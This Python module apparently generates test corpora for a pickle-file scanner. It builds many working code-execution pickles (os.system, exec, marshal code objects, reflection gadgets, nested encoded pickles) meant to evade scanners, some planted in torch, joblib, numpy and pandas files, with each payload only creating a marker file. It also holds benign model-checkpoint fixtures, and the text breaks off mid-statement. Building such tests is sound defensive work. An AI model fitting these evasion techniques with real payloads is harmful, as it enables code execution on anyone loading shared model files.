"""threatgen.py - builds safepickle's whole malicious corpus (threats.md B and C, plus
payloads planted in real containers) and a benign corpus (threats.md D) from code.

    all_malicious(marker_dir) -> [(name, bytes, needs_modules)]
    malicious_cases(marker_dir) -> [Case]  (with class, loader and whether it runs)
    all_benign(tmpdir) -> [(name, path, needs_modules, load_snippet)]  (needs torch & co)

Every payload only creates its own marker file, <marker_dir>/<name>.ran. A case with
runs=True is proven to execute under the real loader by test_threats.py (in a fresh
subprocess, without safepickle). `loader` says how to load it:
  "pickle"          pickle.loads(data)
  "pickle_buffers"  pickle.loads(data, buffers=[b"buf", b"buf2"]) (protocol 5 NEXT_BUFFER)
  "pickle_multi"    pickle.load() repeated until EOF (back-to-back streams)
  "torch"           torch.load(path) of the file
  "joblib"          joblib.load(path)
  "numpy"           numpy.load(path, allow_pickle=True)
  "pandas"          pandas.read_pickle(path)
Run as a script: `threatgen.py malicious DIR MARKERDIR` / `threatgen.py benign DIR` write
the files and a manifest.json (used by the tests to build in a subprocess)."""
import base64
import json
import marshal
import os
import pickle
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import spgen  # noqa: E402
from spgen import Asm  # noqa: E402


class Case:
    def __init__(self, name, klass, data, runs=True, loader="pickle", needs=(), note=""):
        self.name, self.klass, self.data = name, klass, data
        self.runs, self.loader, self.needs, self.note = runs, loader, tuple(needs), note

    def triple(self):
        return (self.name, self.data, self.needs)


def _code(m):
    return spgen.touch_code(m)


def _cmd(m):
    return spgen.touch_cmd(m)


def _s(a, s):
    """push a str with the natural opcode"""
    return a.str_(s)


def _mod_obj(a, module):
    """push importlib.import_module(module)"""
    return a.call("importlib", "import_module", module)


def _b12_dict_value(op_bytes, marker, proto=0):
    """builtins.exec(code, {'x': <value made by op_bytes>}) in protocol-0 text opcodes."""
    code = _code(marker)
    return (b"cbuiltins\nexec\n(V" + code.encode("raw_unicode_escape") + b"\n(dVx\n" + op_bytes
            + b"stR.")


# ------------------------------------------------------------------ B: parser evasion
def _class_b(md):
    C = []
    mk = lambda n: os.path.join(md, n + ".ran")  # noqa: E731

    n = "b11_garbage_after_payload"
    C.append(Case(n, "B11", Asm(2).call("builtins", "exec", _code(mk(n))).pop().raw(b"\xff\xfe\x00junk").b))
    n = "b11_binunicode_past_eof"
    C.append(Case(n, "B11", bytes(Asm(2).call("os", "system", _cmd(mk(n))).pop().raw(
        b"X" + struct.pack("<I", 100000) + b"abc").b)))
    n = "b11_undefined_binget"
    C.append(Case(n, "B11", bytes(Asm(3).call("builtins", "exec", _code(mk(n))).pop().raw(b"h\x63.").b)))
    n = "b11_truncated_global_line"
    C.append(Case(n, "B11", bytes(Asm(0).call("os", "system", _cmd(mk(n))).pop().raw(b"cos\nsyst").b)))

    n = "b12_proto0_float"
    C.append(Case(n, "B12", _b12_dict_value(b"F1.5\n", mk(n))))
    n = "b12_int_base0_hex"
    C.append(Case(n, "B12", _b12_dict_value(b"I0x10\n", mk(n))))
    n = "b12_long_base0"
    C.append(Case(n, "B12", _b12_dict_value(b"L0o17L\n", mk(n))))
    n = "b12_bytearray8"
    a = Asm(5).global_("builtins", "exec").mark().str_(_code(mk(n))).empty_dict().str_("x")
    a.raw(b"\x96" + struct.pack("<Q", 3) + b"abc").setitem().tuple_().reduce()
    C.append(Case(n, "B12", a.stop()))
    n = "b12_next_buffer_readonly"
    a = Asm(5).global_("builtins", "exec").mark().str_(_code(mk(n))).empty_dict().str_("x")
    a.raw(b"\x97\x98").setitem().str_("y").raw(b"\x97").setitem().tuple_().reduce()
    C.append(Case(n, "B12", a.stop(), loader="pickle_buffers"))

    n = "b13_memoize_mixed_with_binput"
    a = Asm(4).str_("os").memoize().str_("system").put(5).str_("decoy").memoize()
    a.pop().pop().pop().get(0).get(5).raw(b"\x93").mark().str_(_cmd(mk(n))).tuple_().reduce()
    C.append(Case(n, "B13", a.stop()))
    n = "b13_redefined_index"
    a = Asm(4).str_("json").put(1).pop().str_("dumps").put(2).pop().str_("os").put(1).pop()
    a.str_("system").put(2).pop().get(1).get(2).raw(b"\x93").mark().str_(_cmd(mk(n))).tuple_().reduce()
    C.append(Case(n, "B13", a.stop()))
    n = "b13_memoize_after_binget"
    a = Asm(4).str_("os").memoize().pop().get(0).memoize().str_("system").raw(b"\x93")
    a.mark().str_(_cmd(mk(n))).tuple_().reduce()
    C.append(Case(n, "B13", a.stop()))
    n = "b13_stack_global_from_string_no_proto"
    C.append(Case(n, "B13", b"S'os'\nS'system'\n\x93(S'" + _cmd(mk(n)).replace("'", "\\'").encode() + b"'\ntR."))
    n = "b13_stack_global_from_unicode_no_proto"
    C.append(Case(n, "B13", b"Vbuiltins\nVexec\n\x93(V" + _code(mk(n)).encode("raw_unicode_escape") + b"\ntR."))

    n = "b14_throwaway_streams_first"
    C.append(Case(n, "B14", spgen.benign_pickle(2) + spgen.benign_pickle(4) + spgen.exec_pickle(mk(n)),
                  loader="pickle_multi"))
    n = "b14_payload_between_benign"
    C.append(Case(n, "B14", spgen.benign_pickle(0) + spgen.system_pickle(mk(n), 1) + spgen.benign_pickle(5),
                  loader="pickle_multi"))

    n = "b15_deep_marks_then_payload"
    C.append(Case(n, "B15", b"(" * 200000 + Asm(2).call("builtins", "exec", _code(mk(n))).stop()[2:]))
    n = "b15_many_ops_then_payload"
    C.append(Case(n, "B15", b"\x80\x02" + b"N0" * 3000000 + Asm(2).call("os", "system", _cmd(mk(n))).stop()[2:]))
    n = "b15_huge_memo_index_then_payload"
    C.append(Case(n, "B15", bytes(Asm(2).none().raw(b"r" + struct.pack("<I", 1000000)).pop()
                                  .call("builtins", "exec", _code(mk(n))).stop())))
    n = "b15_deep_nesting_lists"
    a = Asm(2)
    a.raw(b"]" * 100000 + b"a" * 99999)
    a.call("os", "system", _cmd(mk(n))).raw(b"a")
    C.append(Case(n, "B15", a.stop()))
    n = "b15_decompression_bomb_then_payload"
    import gzip
    inner = (b"\x80\x04\x8e" + struct.pack("<Q", 256 << 20) + bytes(256 << 20) + b"0"
             + Asm(2).call("builtins", "exec", _code(mk(n))).stop()[2:])
    C.append(Case(n, "B15", gzip.compress(inner, 1), loader="pandas_gzip",
                  note="256 MiB of zeros in a gzip file read by pandas.read_pickle"))
    return C


# ------------------------------------------------------------------ C: semantic evasion
def _class_c(md):
    C = []
    mk = lambda n: os.path.join(md, n + ".ran")  # noqa: E731

    # 16 aliases and compat names
    n = "c16_posix_system"
    C.append(Case(n, "C16", spgen.call_pickle("posix", "system", [_cmd(mk(n))])))
    n = "c16_nt_system"
    C.append(Case(n, "C16", spgen.call_pickle("nt", "system", [_cmd(mk(n))]), runs=False,
                  note="nt exists only on Windows"))
    n = "c16_py2_builtin_eval"
    C.append(Case(n, "C16", spgen.call_pickle("__builtin__", "eval", ["exec(%r)" % _code(mk(n))], proto=2)))
    n = "c16_py2_builtin_eval_proto0"
    C.append(Case(n, "C16", spgen.call_pickle("__builtin__", "eval", ["exec(%r)" % _code(mk(n))], proto=0)))
    n = "c16_private_io_fileio"
    C.append(Case(n, "C16", spgen.call_pickle("_io", "FileIO", [mk(n), "w"])))
    n = "c16_private_pickle_loads"
    C.append(Case(n, "C16", spgen.call_pickle("_pickle", "loads", [spgen.exec_pickle(mk(n), 3)], proto=3)))
    n = "c16_private_operator_attrgetter"
    a = Asm(2).global_("_operator", "attrgetter").mark().str_("system").tuple_().reduce()
    a.mark().call("importlib", "import_module", "os").tuple_().reduce()
    a.mark().str_(_cmd(mk(n))).tuple_().reduce()
    C.append(Case(n, "C16", a.stop()))

    # 17 dotted names under protocol >= 4
    n = "c17_os_path_dotted_os_system"
    C.append(Case(n, "C17", Asm(4).call("os.path", "os.system", _cmd(mk(n))).stop()))
    n = "c17_torch_serialization_os_system"
    C.append(Case(n, "C17", Asm(4).call("torch", "serialization.os.system", _cmd(mk(n))).stop(), needs=("torch",)))
    n = "c17_builtins_dict_get_numpy_builtins"
    a = Asm(4).global_("builtins", "dict.get").mark().global_("numpy", "__builtins__").str_("exec").tuple_().reduce()
    a.mark().str_(_code(mk(n))).tuple_().reduce()
    C.append(Case(n, "C17", a.stop(), needs=("numpy",)))
    n = "c17_allowlisted_module_dotted"
    C.append(Case(n, "C17", Asm(4).call("collections", "os.system", _cmd(mk(n))).stop(), runs=False,
                  note="collections does not import os at module level"))

    # 18 submodules of dangerous packages, matched on every component
    n = "c18_asyncio_subprocess_transport"
    C.append(Case(n, "C18", Asm(4).call("asyncio.unix_events", "_UnixSubprocessTransport._start",
                                        _cmd(mk(n))).stop(), runs=False, note="needs a transport object"))
    n = "c18_multiprocessing_util_spawnv"
    a = Asm(2).global_("multiprocessing.util", "spawnv_passfds").mark().str_("/usr/bin/touch")
    a.mark().str_("touch").str_(mk(n)).raw(b"l").empty_list().tuple_().reduce()
    C.append(Case(n, "C18", a.stop(), runs=False, note="spawnv_passfds is broken on 3.11 (fork_exec signature)"))
    n = "c18_logging_handlers_nested_os"
    C.append(Case(n, "C18", Asm(4).call("logging.handlers", "os.system", _cmd(mk(n))).stop()))

    # 19 reflection and trampolines
    n = "c19_getattr_import_module"
    a = Asm(2).global_("builtins", "getattr").mark().call("importlib", "import_module", "os").str_("system")
    a.tuple_().reduce().mark().str_(_cmd(mk(n))).tuple_().reduce()
    C.append(Case(n, "C19", a.stop()))
    n = "c19_getattr_static"
    a = Asm(2).global_("inspect", "getattr_static").mark().call("importlib", "import_module", "os")
    a.str_("system").tuple_().reduce().mark().str_(_cmd(mk(n))).tuple_().reduce()
    C.append(Case(n, "C19", a.stop()))
    n = "c19_methodcaller"
    a = Asm(2).global_("operator", "methodcaller").mark().str_("system").str_(_cmd(mk(n))).tuple_().reduce()
    a.mark().call("importlib", "import_module", "os").tuple_().reduce()
    C.append(Case(n, "C19", a.stop()))
    n = "c19_getitem_sys_modules"
    a = Asm(2).global_("builtins", "getattr").mark().global_("operator", "getitem").mark()
    a.global_("sys", "modules").str_("os").tuple_().reduce().str_("system").tuple_().reduce()
    a.mark().str_(_cmd(mk(n))).tuple_().reduce()
    C.append(Case(n, "C19", a.stop()))
    n = "c19_itemgetter_sys_modules"
    a = Asm(2).global_("builtins", "getattr").mark()
    a.global_("operator", "itemgetter").mark().str_("os").tuple_().reduce().mark().global_("sys", "modules").tuple_().reduce()
    a.str_("system").tuple_().reduce().mark().str_(_cmd(mk(n))).tuple_().reduce()
    C.append(Case(n, "C19", a.stop()))
    n = "c19_dunder_import"
    a = Asm(2).global_("builtins", "getattr").mark().call("builtins", "__import__", "os").str_("system")
    a.tuple_().reduce().mark().str_(_cmd(mk(n))).tuple_().reduce()
    C.append(Case(n, "C19", a.stop()))
    n = "c19_pkgutil_resolve_name"
    a = Asm(2).call("pkgutil", "resolve_name", "os:system").mark().str_(_cmd(mk(n))).tuple_().reduce()
    C.append(Case(n, "C19", a.stop()))
    n = "c19_partial_called"
    a = Asm(2).global_("functools", "partial").mark().global_("os", "system").str_(_cmd(mk(n))).tuple_().reduce()
    a.raw(b")").reduce()
    C.append(Case(n, "C19", a.stop()))
    n = "c19_map_forced_by_list"
    a = Asm(2).global_("builtins", "list").mark().global_("builtins", "map").mark().global_("os", "system")
    a.mark().str_(_cmd(mk(n))).raw(b"l").tuple_().reduce().tuple_().reduce()
    C.append(Case(n, "C19", a.stop()))
    n = "c19_filter_forced_by_tuple"
    a = Asm(2).global_("builtins", "tuple").mark().global_("builtins", "filter").mark().global_("builtins", "exec")
    a.mark().str_(_code(mk(n))).raw(b"l").tuple_().reduce().tuple_().reduce()
    C.append(Case(n, "C19", a.stop()))
    n = "c19_attrgetter_dotted_path"
    a = Asm(2).global_("operator", "attrgetter").mark().str_("path.os.system").tuple_().reduce()
    a.mark().call("importlib", "import_module", "os").tuple_().reduce().mark().str_(_cmd(mk(n))).tuple_().reduce()
    C.append(Case(n, "C19", a.stop()))

    # 20 module state poisoning: BUILD on a global, then a dotted global reads it back
    n = "c20_build_on_class_then_dotted_read"
    a = Asm(4).global_("argparse", "Namespace").none().empty_dict().str_("run").global_("os", "system")
    a.setitem().tuple_(2).build().pop()
    a.call("argparse", "Namespace.run", _cmd(mk(n)))
    C.append(Case(n, "C20", a.stop()))
    n = "c20_allowlisted_function_as_getter"
    a = Asm(4).global_("argparse", "Namespace").none().empty_dict().str_("get").global_("builtins", "getattr")
    a.setitem().tuple_(2).build().pop()
    a.global_("argparse", "Namespace.get").mark().call("importlib", "import_module", "os").str_("system")
    a.tuple_().reduce().mark().str_(_cmd(mk(n))).tuple_().reduce()
    C.append(Case(n, "C20", a.stop()))

    # 21 code objects
    n = "c21_functiontype_marshal"
    code = marshal.dumps(compile(_code(mk(n)), "<x>", "exec"))
    a = Asm(3).global_("types", "FunctionType").mark().call("marshal", "loads", code).empty_dict().tuple_().reduce()
    a.raw(b")").reduce()
    C.append(Case(n, "C21", a.stop()))
    n = "c21_codetype"
    C.append(Case(n, "C21", Asm(3).call("types", "CodeType", 0, 0, 0, 0, 0, 0, b"", None).stop(), runs=False,
                  note="argument list differs per Python version"))

    # 22 one-gadget functions
    gadgets = [
        ("c22_runpy_run_code", "runpy", "_run_code", lambda m: [_code(m), {}], True),
        ("c22_cprofile_run", "cProfile", "run", lambda m: [_code(m)], True),
        ("c22_profile_run", "profile", "run", lambda m: [_code(m)], True),
        ("c22_timeit_timeit", "timeit", "timeit", lambda m: [_code(m) + "; raise ValueError('stop')"], True),
        ("c22_pydoc_pipepager", "pydoc", "pipepager", lambda m: ["", _cmd(m)], True),
        ("c22_numpy_testing_runstring", "numpy.testing._private.utils", "runstring", lambda m: [_code(m), {}], True),
        ("c22_numpy_f2py_myeval", "numpy.f2py.crackfortran", "myeval", lambda m: ["exec(%r)" % _code(m)], True),
        ("c22_torch_fx_forward_from_src", "torch.fx.graph_module", "_forward_from_src",
         lambda m: ["def forward(self):\n    pass\n" + _code(m) + "\n", {}], True),
        ("c22_torch_collect_env_run", "torch.utils.collect_env", "run", lambda m: [_cmd(m)], True),
        ("c22_torch_jit_execwrapper", "torch.jit.unsupported_tensor_ops", "execWrapper",
         lambda m: [_code(m), {}, {}], True),
        ("c22_torch_inductor_compile_file", "torch._inductor.codecache", "compile_file",
         lambda m: ["x.cpp", m, "cc"], False),
        ("c22_io_fileio", "io", "FileIO", lambda m: [m, "w"], True),
        ("c22_builtins_open", "builtins", "open", lambda m: [m, "w"], True),
        ("c22_shutil_copyfile", "shutil", "copyfile", lambda m: ["/etc/hostname", m], True),
        ("c22_distutils_write_file", "distutils.file_util", "write_file", lambda m: [m, []], True),
        ("c22_ctypes_cdll", "ctypes", "CDLL", lambda m: ["libc.so.6"], False),
        ("c22_webbrowser_open", "webbrowser", "open", lambda m: ["http://127.0.0.1:9/"], False),
        ("c22_urlopen", "urllib.request", "urlopen", lambda m: ["http://127.0.0.1:9/"], False),
        ("c22_socket_create_connection", "socket", "create_connection", lambda m: [("127.0.0.1", 9)], False),
        ("c22_ssl_get_server_certificate", "ssl", "get_server_certificate", lambda m: [("127.0.0.1", 9)], False),
        ("c22_pty_spawn", "pty", "spawn", lambda m: [["/usr/bin/touch", m]], False),
        ("c22_venv_create", "venv", "create", lambda m: [m], False),
        ("c22_ensurepip_bootstrap", "ensurepip", "bootstrap", lambda m: [], False),
        ("c22_pip_main", "pip", "main", lambda m: [["--version"]], False),
        ("c22_posixsubprocess_fork_exec", "_posixsubprocess", "fork_exec", lambda m: [], False),
        ("c22_doctest_debug_script", "doctest", "debug_script", lambda m: [_code(m)], False),
        ("c22_bdb_run", "bdb", "Bdb.run", lambda m: [_code(m)], False),
        ("c22_trace_runctx", "trace", "Trace.runctx", lambda m: [_code(m)], False),
    ]
    for name, mod, fn, args, runs in gadgets:
        m = mk(name)
        a = Asm(4 if "." in fn else 2)
        a.global_(mod, fn).mark()
        for x in args(m):
            _push_any(a, x)
        a.tuple_().reduce()
        needs = tuple(x for x in ("torch", "numpy") if mod.startswith(x))
        C.append(Case(name, "C22", a.stop(), runs=runs, needs=needs))
    n = "c22_code_interactive_interpreter"
    a = Asm(2).global_("builtins", "getattr").mark().call("code", "InteractiveInterpreter").str_("runsource")
    a.tuple_().reduce().mark().str_(_code(mk(n))).tuple_().reduce()
    C.append(Case(n, "C22", a.stop()))
    n = "c22_bdb_instance_run"
    a = Asm(2).global_("builtins", "getattr").mark().call("bdb", "Bdb").str_("run")
    a.tuple_().reduce().mark().str_(_code(mk(n))).tuple_().reduce()
    C.append(Case(n, "C22", a.stop(), runs=False, note="Bdb.run installs a trace function"))

    # 23 discarded results and calls hidden under benign values
    n = "c23_reduce_then_pop"
    a = Asm(2).call("os", "system", _cmd(mk(n))).pop().empty_dict().str_("weights").push(1)
    a.setitem()
    C.append(Case(n, "C23", a.stop()))
    n = "c23_hidden_under_dict_value"
    a = Asm(2).empty_dict().str_("config").call("builtins", "exec", _code(mk(n))).setitem()
    a.str_("lr").push(3).setitem()
    C.append(Case(n, "C23", a.stop()))

    # A9 nested pickles (raw, base64, hex, latin1) and second-stage files
    inner = lambda m: spgen.exec_pickle(m, 2)  # noqa: E731
    n = "a9_nested_pickle_loads_raw"
    C.append(Case(n, "A9", spgen.call_pickle("pickle", "loads", [inner(mk(n))], proto=3)))
    n = "a9_nested_base64"
    a = Asm(3).global_("pickle", "loads").mark().call("base64", "b64decode",
                                                     base64.b64encode(inner(mk(n))).decode()).tuple_().reduce()
    C.append(Case(n, "A9", a.stop()))
    n = "a9_nested_hex"
    a = Asm(3).global_("pickle", "loads").mark().call("binascii", "unhexlify", inner(mk(n)).hex()).tuple_().reduce()
    C.append(Case(n, "A9", a.stop()))
    n = "a9_nested_codecs_latin1"
    a = Asm(2).global_("pickle", "loads").mark().call("_codecs", "encode", inner(mk(n)).decode("latin1"),
                                                      "latin1").tuple_().reduce()
    C.append(Case(n, "A9", a.stop()))
    n = "a9_second_stage_partial_torch_load"
    a = Asm(2).global_("functools", "partial").mark().global_("torch", "load").str_("/tmp/other.bin")
    a.tuple_().reduce().raw(b")").reduce()
    C.append(Case(n, "A9", a.stop(), runs=False, needs=("torch",), note="needs a second file"))
    return C


def _push_any(a, x):
    if isinstance(x, dict):
        a.empty_dict()
        for k, v in x.items():
            _push_any(a, k)
            _push_any(a, v)
            a.setitem()
    elif isinstance(x, (list, tuple)):
        a.mark()
        for v in x:
            _push_any(a, v)
        a.raw(b"l" if isinstance(x, list) else b"t")
    else:
        a.push(x)
    return a


def malicious_cases(marker_dir):
    """Every malicious case (threats.md B and C, A9) as Case objects."""
    return _class_b(marker_dir) + _class_c(marker_dir)


def all_malicious(marker_dir):
    """The project's malicious corpus: [(name, bytes, needs_modules)]. Payloads create
    <marker_dir>/<name>.ran. Container-planted variants come from container_malicious()."""
    return [c.triple() for c in malicious_cases(marker_dir)]


# ------------------------------------------------------------------ payloads in real containers
CONTAINER_GEN = r'''
import os, sys, pickle, io
sys.path.insert(0, %(here)r)
import spgen
out, md = %(out)r, %(md)r
made = []
def mk(n): return os.path.join(md, n + ".ran")
import numpy as np
P = spgen.Reduce
exec_ = __builtins__.exec if hasattr(__builtins__, "exec") else __builtins__["exec"]
import builtins
def emit(name, path, loader, needs):
    made.append({"name": name, "path": path, "loader": loader, "needs": needs})
import torch
p = os.path.join(out, "a3_torch_zip_payload.pt")
torch.save({"w": torch.zeros(3), "x": P(builtins.exec, (spgen.touch_code(mk("a3_torch_zip_payload")),))}, p)
emit("a3_torch_zip_payload", p, "torch", ["torch"])
p = os.path.join(out, "a4_torch_legacy_payload.pt")
torch.save({"w": torch.zeros(3), "x": P(os.system, (spgen.touch_cmd(mk("a4_torch_legacy_payload")),))}, p,
           _use_new_zipfile_serialization=False)
emit("a4_torch_legacy_payload", p, "torch", ["torch"])
import joblib
for comp in (0, 3, "xz", "lz4"):
    n = "a7_joblib_payload_%%s" %% comp
    p = os.path.join(out, n + ".joblib")
    joblib.dump({"arr": np.arange(10), "x": P(builtins.exec, (spgen.touch_code(mk(n)),)), "b": np.ones(5)},
                p, compress=comp)
    emit(n, p, "joblib", ["joblib"])
n = "a6_npy_object_payload"
p = os.path.join(out, n + ".npy")
arr = np.empty(2, dtype=object); arr[0] = 1; arr[1] = P(os.system, (spgen.touch_cmd(mk(n)),))
np.save(p, arr, allow_pickle=True)
emit(n, p, "numpy", ["numpy"])
import pandas as pd
for ext in ("pkl", "gz", "bz2", "xz"):
    n = "a8_pandas_payload_" + ext
    p = os.path.join(out, n + "." + ext)
    pd.to_pickle({"df": pd.DataFrame({"a": [1, 2]}), "x": P(builtins.exec, (spgen.touch_code(mk(n)),))}, p)
    emit(n, p, "pandas", ["pandas"])
print(__import__("json").dumps(made))
'''


def container_malicious_script(out_dir, marker_dir):
    """Python source that writes payloads planted in real containers (torch zip and
    legacy, joblib with every compression, npy object arrays, pandas compressed pickles)
    and prints a JSON list of {name, path, loader, needs}. Run it with /usr/bin/python3."""
    return CONTAINER_GEN % {"here": os.path.dirname(os.path.abspath(__file__)), "out": out_dir, "md": marker_dir}


# ------------------------------------------------------------------ loaders (for proofs)
LOADERS = {
    "pickle": "pickle.loads(open(path,'rb').read())",
    "pickle_buffers": "pickle.loads(open(path,'rb').read(), buffers=[b'buf', b'buf2'])",
    "pickle_multi": "f = open(path, 'rb')\nwhile True:\n    pickle.load(f)",
    "torch": "torch.load(path)",
    "joblib": "joblib.load(path)",
    "numpy": "numpy.load(path, allow_pickle=True)",
    "pandas": "pandas.read_pickle(path)",
    "pandas_gzip": "pandas.read_pickle(path, compression='gzip')",
}


def loader_script(items, loaders=None):
    """Python source that loads each (path, loader) in turn, ignoring exceptions (the
    payload runs before any error), and prints one line per item."""
    lines = ["import pickle, sys, os, signal", "signal.alarm(120)"]
    mods = set()
    for _, ld in items:
        if ld.split("_")[0] in ("torch", "joblib", "numpy", "pandas"):
            mods.add(ld.split("_")[0])
    for m in sorted(mods):
        lines.append("import %s" % m)
    for path, ld in items:
        body = (loaders or BENIGN_LOADERS)[ld].replace("\n", "\n    ")
        lines.append("path = %r\ntry:\n    %s\n    print('loaded', path)\nexcept BaseException as e:\n"
                     "    print('error', path, type(e).__name__)" % (path, body))
    return "\n".join(lines) + "\n"


# ------------------------------------------------------------------ benign (threats.md D)
USERMODS = r'''
"""usermods.py - user-defined classes for the benign corpus (written next to the files)."""
import collections
import dataclasses
import enum
import torch
from torch import nn


class Block(nn.Module):
    def __init__(self, c):
        super().__init__()
        self.conv = nn.Conv2d(c, c, 3, padding=1)
        self.bn = nn.BatchNorm2d(c)
        self.act = nn.ReLU()

    def forward(self, x):
        return self.act(self.bn(self.conv(x))) + x


class MyNet(nn.Module):
    def __init__(self, c=64, n=8, classes=1000):
        super().__init__()
        self.stem = nn.Conv2d(3, c, 7, stride=2, padding=3)
        self.blocks = nn.Sequential(*[Block(c) for _ in range(n)])
        self.head = nn.Linear(c, classes)
        self.register_buffer("scale", torch.ones(1))

    def forward(self, x):
        return self.head(self.blocks(self.stem(x)).mean((2, 3)))


@dataclasses.dataclass
class TrainConfig:
    lr: float = 1e-3
    epochs: int = 10
    name: str = "run-1"
    command: str = "python train.py --lr 0.001"


class Color(enum.Enum):
    RED = 1
    GREEN = 2


Point = collections.namedtuple("Point", "x y")


def scale(x, factor=2.0):
    return x * factor


class Helper:
    def __init__(self, k):
        self.k = k

    def apply(self, x):
        return x + self.k


class OldStyle(object):
    def __init__(self):
        self.a = [1, 2, 3]
        self.b = {"k": "v"}
'''

BENIGN_GEN = r'''
import os, sys, io, pickle, json
out = %(out)r
sys.path.insert(0, out)
open(os.path.join(out, "usermods.py"), "w").write(%(usermods)r)
import usermods
import numpy as np, torch, joblib, pandas as pd, scipy.sparse, sklearn
import argparse, pathlib, collections, datetime, decimal, fractions, uuid, re, zoneinfo, functools, enum
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import StandardScaler, OneHotEncoder
from sklearn.linear_model import LogisticRegression
from sklearn.ensemble import RandomForestClassifier
from sklearn.compose import ColumnTransformer
made = []
def emit(name, path, loader, needs):
    made.append({"name": name, "path": path, "loader": loader, "needs": needs})
torch.manual_seed(0)
net = usermods.MyNet()
p = os.path.join(out, "d_torch_state_dict.pt"); torch.save(net.state_dict(), p); emit("d_torch_state_dict", p, "torch", ["torch"])
p = os.path.join(out, "d_torch_whole_module.pt"); torch.save(net, p); emit("d_torch_whole_module", p, "torch", ["torch"])
opt = torch.optim.Adam(net.parameters(), lr=1e-3)
net(torch.randn(2, 3, 32, 32)).sum().backward(); opt.step()
p = os.path.join(out, "d_torch_optimizer_state.pt"); torch.save(opt.state_dict(), p); emit("d_torch_optimizer_state", p, "torch", ["torch"])
p = os.path.join(out, "d_torch_optimizer_object.pt"); torch.save(opt, p); emit("d_torch_optimizer_object", p, "torch", ["torch"])
ckpt = {"epoch": 3, "global_step": 1200, "state_dict": net.state_dict(), "optimizer_states": [opt.state_dict()],
        "lr_schedulers": [], "hyper_parameters": argparse.Namespace(lr=1e-3, data_dir=pathlib.Path("/data/imagenet"),
        device=torch.device("cpu"), cmd="python train.py --lr 0.001"), "callbacks": {"ModelCheckpoint": {"dirpath": pathlib.PosixPath("/ckpt")}},
        "device": torch.device("cuda", 0), "config": usermods.TrainConfig(), "pytorch-lightning_version": "1.9.0"}
p = os.path.join(out, "d_lightning_checkpoint.ckpt"); torch.save(ckpt, p); emit("d_lightning_checkpoint", p, "torch", ["torch"])
p = os.path.join(out, "d_torch_legacy_format.pt"); torch.save(net.state_dict(), p, _use_new_zipfile_serialization=False); emit("d_torch_legacy_format", p, "torch", ["torch"])
p = os.path.join(out, "d_torch_pickle_protocol2.pt"); torch.save({"t": torch.arange(10), "cfg": usermods.TrainConfig()}, p, pickle_protocol=2); emit("d_torch_pickle_protocol2", p, "torch", ["torch"])
big = {"embedding.weight": torch.randn(%(big_rows)d, 1024)}
p = os.path.join(out, "d_torch_large.pt"); torch.save(big, p); emit("d_torch_large", p, "torch", ["torch"])
del big
# tensors pickled with plain pickle (storages as torch.storage._load_from_bytes)
p = os.path.join(out, "d_tensor_plain_pickle.pkl"); open(p, "wb").write(pickle.dumps({"t": torch.arange(6.0).reshape(2, 3), "p": torch.nn.Parameter(torch.ones(2))}))
emit("d_tensor_plain_pickle", p, "pickle", ["torch"])
p = os.path.join(out, "d_torch_module_joblib.joblib"); joblib.dump(torch.nn.Linear(4, 2), p); emit("d_torch_module_joblib", p, "joblib", ["torch", "joblib"])
# sklearn via joblib
X = np.random.RandomState(0).randn(400, 6); y = (X[:, 0] > 0).astype(int)
df = pd.DataFrame(X, columns=list("abcdef")); df["cat"] = pd.Categorical(np.where(y, "yes", "no"))
pipe = Pipeline([("ct", ColumnTransformer([("num", StandardScaler(), list("abcdef")), ("cat", OneHotEncoder(), ["cat"])])),
                 ("rf", RandomForestClassifier(n_estimators=20, random_state=0))]).fit(df, y)
for comp in (0, 3, ("zlib", 3), ("gzip", 3), ("bz2", 3), ("xz", 3), ("lz4", 3)):
    tag = comp if isinstance(comp, int) else comp[0]
    n = "d_sklearn_pipeline_joblib_%%s" %% tag
    p = os.path.join(out, n + ".joblib"); joblib.dump(pipe, p, compress=comp); emit(n, p, "joblib", ["joblib", "sklearn"])
lr = Pipeline([("s", StandardScaler()), ("lr", LogisticRegression())]).fit(X, y)
p = os.path.join(out, "d_sklearn_plain_pickle.pkl"); open(p, "wb").write(pickle.dumps(lr)); emit("d_sklearn_plain_pickle", p, "pickle", ["sklearn"])
# numpy
oa = np.empty(4, dtype=object); oa[:] = [{"a": 1}, "text", 3.5, usermods.Point(1, 2)]
p = os.path.join(out, "d_numpy_object_array.npy"); np.save(p, oa, allow_pickle=True); emit("d_numpy_object_array", p, "numpy", ["numpy"])
p = os.path.join(out, "d_numpy_npz_object.npz"); np.savez(p, a=oa, b=np.arange(100)); emit("d_numpy_npz_object", p, "numpy_npz", ["numpy"])
p = os.path.join(out, "d_numpy_arrays_pickle.pkl"); open(p, "wb").write(pickle.dumps({"f": np.random.rand(100, 100), "i": np.arange(1000), "s": np.float32(1.5), "dt": np.dtype([("x", "<f4"), ("y", "<i8")]), "m": np.ma.masked_array([1, 2], mask=[0, 1])}, protocol=2))
emit("d_numpy_arrays_pickle", p, "pickle", ["numpy"])
p = os.path.join(out, "d_numpy_generator_state.pkl"); open(p, "wb").write(pickle.dumps({"rng": np.random.default_rng(0), "rs": np.random.RandomState(1), "bg": np.random.PCG64(2)}))
emit("d_numpy_generator_state", p, "pickle", ["numpy"])
# pandas
frame = pd.DataFrame({"cat": pd.Categorical(["a", "b", "a"]), "ts": pd.date_range("2024-01-01", periods=3, tz="Europe/Berlin"),
                      "iv": pd.IntervalIndex.from_breaks([0, 1, 2, 3]), "x": [1.0, 2.0, 3.0], "s": ["u", "v", "w"],
                      "td": pd.to_timedelta([1, 2, 3], unit="h"), "p": pd.period_range("2024-01", periods=3, freq="M")})
frame = frame.set_index(pd.MultiIndex.from_tuples([("a", 1), ("a", 2), ("b", 1)]))
for ext in ("pkl", "gz", "bz2", "xz", "zip", "zst"):
    n = "d_pandas_frame_" + ext
    p = os.path.join(out, n + "." + ext); frame.to_pickle(p); emit(n, p, "pandas", ["pandas"])
p = os.path.join(out, "d_pandas_series_proto0.pkl"); open(p, "wb").write(pickle.dumps(pd.Series([1, 2, None], dtype="Int64"), protocol=0)); emit("d_pandas_series_proto0", p, "pickle", ["pandas"])
# scipy
sp = scipy.sparse.random(200, 200, density=0.05, format="csr", random_state=0)
p = os.path.join(out, "d_scipy_sparse.pkl"); open(p, "wb").write(pickle.dumps({"csr": sp, "csc": sp.tocsc(), "coo": sp.tocoo()})); emit("d_scipy_sparse", p, "pickle", ["scipy"])
# stdlib and user objects, every protocol
obj = {"re": re.compile(r"\d+", re.I), "tz": zoneinfo.ZoneInfo("Europe/Paris"), "enum": usermods.Color.RED,
